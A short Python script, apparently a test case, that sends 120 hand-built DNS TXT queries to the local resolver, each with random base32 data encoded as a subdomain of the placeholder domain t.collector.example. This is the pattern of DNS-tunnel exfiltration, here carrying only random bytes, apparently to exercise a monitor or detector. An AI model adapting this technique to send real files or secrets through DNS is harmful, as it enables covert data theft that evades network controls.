# what: the same with questions of its own making, straight to the resolver
import base64, os, socket, struct, time

print("begun", flush=True)
s = socket.socket(type=socket.SOCK_DGRAM)
s.settimeout(0.5)
s.connect(("127.0.0.53", 53))
for i in range(120):
    label = base64.b32encode(os.urandom(30)).rstrip(b"=").lower()
    name = b"".join(bytes([len(l)]) + l for l in (label, b"t", b"collector", b"example")) + b"\0"
    s.send(struct.pack(">6H", i, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1))
    try:
        s.recv(512)
    except OSError:
        pass
time.sleep(float(os.environ.get("LINGER", "20")))
print("done")
